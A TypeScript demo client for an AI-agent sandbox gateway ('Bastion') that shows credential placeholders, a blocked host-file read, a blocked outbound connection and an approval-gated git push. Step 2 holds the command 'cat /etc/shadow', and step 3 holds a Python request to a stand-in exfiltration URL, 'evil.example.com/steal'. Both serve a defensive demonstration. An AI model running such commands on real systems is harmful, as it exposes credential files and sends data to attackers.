/**
 * The sandbox walkthrough's agent (README, "Running code in the sandbox"): an
 * MCP client (the official SDK) that calls `sandbox__run_code` and
 * `sandbox__run` through Bastion's tool door, in one session (so one
 * workspace), and prints what each call returned.
 *
 * 1. A Python script calls the approved API with the placeholder in its
 *    environment: the API receives the real value, the script never sees it.
 * 2. It tries to read a host file: refused before anything runs (audited).
 * 3. It tries to reach a host its network rules do not allow: the network
 *    door refuses the connection (audited, as this agent and session).
 * 4. `git push` is held until an admin approves it.
 *
 * Run from the repository root, with `bastion serve` on examples/sandbox/bastion.yaml:
 *   BASTION_CODER_KEY=... npm run demo:sandbox      (BASTION_URL, API_PORT=8443 by default)
 */
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StreamableHTTPClientTransport } from '@modelcontextprotocol/sdk/client/streamableHttp.js';
import type { CallToolResult } from '@modelcontextprotocol/sdk/types.js';

const url = new URL(process.env.BASTION_URL ?? 'http://127.0.0.1:8790/mcp');
const key = process.env.BASTION_CODER_KEY;
const apiPort = process.env.API_PORT ?? '8443';
if (key === undefined || key === '') {
  process.stderr.write('set BASTION_CODER_KEY to the coder agent\'s key\n');
  process.exit(2);
}

const client = new Client({ name: 'sandbox-walkthrough', version: '1.0.0' });
await client.connect(new StreamableHTTPClientTransport(url, { requestInit: { headers: { authorization: `Bearer ${key}` } } }));

async function call(step: string, name: string, args: Record<string, unknown>): Promise<void> {
  process.stdout.write(`\n== ${step}\n`);
  // A held call waits for the admin's decision: no client-side timeout shorter than the approval's.
  const result = (await client.callTool({ name, arguments: args }, undefined, { timeout: 600_000 })) as CallToolResult;
  const text = result.content.map((c) => (c.type === 'text' ? c.text : `[${c.type}]`)).join('\n');
  process.stdout.write(`${result.isError === true ? '(error) ' : ''}${text}\n`);
}

await call('1. a Python script calls the approved API with its placeholder', 'sandbox__run_code', {
  language: 'python',
  code: [
    'import os, json, urllib.request',
    "token = os.environ['GITHUB_TOKEN']",
    "print('the sandbox holds:', token[:7] + '...')",
    `req = urllib.request.Request('https://api.github.com:${apiPort}/user', headers={'Authorization': 'Bearer ' + token})`,
    'with urllib.request.urlopen(req, timeout=10) as r:',
    "    print('api answered', r.status, json.loads(r.read())['authorization'])",
  ].join('\n'),
});

await call('2. reading a host file is refused before anything runs', 'sandbox__run', { command: 'cat /etc/shadow' });

await call('3. an unapproved host is refused by the network door', 'sandbox__run_code', {
  language: 'python',
  code: [
    'import urllib.request',
    'try:',
    `    urllib.request.urlopen('https://evil.example.com:${apiPort}/steal', timeout=10)`,
    'except Exception as e:',
    "    print('refused:', e)",
  ].join('\n'),
});

await call('4a. a repository in the workspace', 'sandbox__run', {
  command: 'git init -q --bare origin.git && git init -q repo && cd repo && echo hello > README && git add README && git -c user.name=coder -c user.email=coder@example.com commit -q -m first && git log --oneline',
});
process.stdout.write('\n(git push waits for an admin: npm run bastion -- approvals list --config examples/sandbox/bastion.yaml, then approvals approve ID)\n');
await call('4b. git push is held for approval', 'sandbox__run', { command: 'cd repo && git push -q ../origin.git HEAD:main && echo pushed' });

await client.close();
